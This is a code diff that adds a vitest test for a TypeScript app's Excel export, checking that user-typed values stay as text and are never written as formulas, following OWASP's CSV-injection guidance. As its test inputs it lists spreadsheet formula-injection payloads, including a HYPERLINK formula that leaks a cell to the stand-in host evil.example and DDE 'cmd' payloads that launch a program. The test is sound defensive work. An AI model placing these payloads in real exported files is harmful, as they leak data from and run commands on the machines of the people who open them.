@@ -1,7 +1,8 @@
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
 import { buildXlsx, exportFileName } from '../../../renderer/src/features/export/export-xlsx';
-import { excelDate } from '../../../renderer/src/table/export-columns';
+import { excelDate, exportSheet, numberOrText } from '../../../renderer/src/table/export-columns';
+import type { TableColumn } from '../../../renderer/src/table/types';
 
 /** Exported dates are real Excel dates, shown in the reader's convention. */
 async function read(bytes: Uint8Array) {
@@ -65,6 +66,42 @@ describe('the export file name', () => {
     } finally {
       if (zone === undefined) delete process.env.TZ;
       else process.env.TZ = zone;
+    }
+  });
+});
+
+/** What a guest typed is exported as text, never as a formula (OWASP's CSV-injection rule, for .xlsx too). */
+describe('exported text', () => {
+  const typed = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your invoice")',
+    '+cmd|\' /C calc\'!A0',
+    '-2+3+cmd|\' /C calc\'!A0',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1',
+    '=1+1',
+    '-5',
+    '+966 55 123 4567',
+  ];
+  type Row = { name: string; room: string };
+  const columns = [
+    { id: 'name', header: 'Guest', value: (r: Row) => r.name },
+    { id: 'room', header: 'Room', value: (r: Row) => r.name, exportValue: (r: Row) => numberOrText(r.room) },
+  ] as unknown as TableColumn<Row>[];
+
+  it('every cell a guest or user typed (name, note, room) is a string cell with no formula, shown as typed, in both languages', async () => {
+    const sheet = exportSheet(columns, typed.map((name) => ({ name, room: name })));
+    for (const rtl of [false, true]) {
+      const read2 = await read(await buildXlsx('Requests', sheet, rtl));
+      typed.forEach((text, i) => {
+        for (const col of [1, 2]) {
+          const cell = read2.getRow(i + 2).getCell(col);
+          expect(cell.type, text).toBe(ExcelJS.ValueType.String);
+          expect(cell.formula, text).toBeUndefined();
+          // A room cell is trimmed (numberOrText), still text; XML reads a carriage return as a line feed (the same line break in Excel).
+          expect(cell.value, text).toBe((col === 2 ? text.trim() : text).replace(/\r/g, '\n'));
+        }
+      });
     }
   });
 });
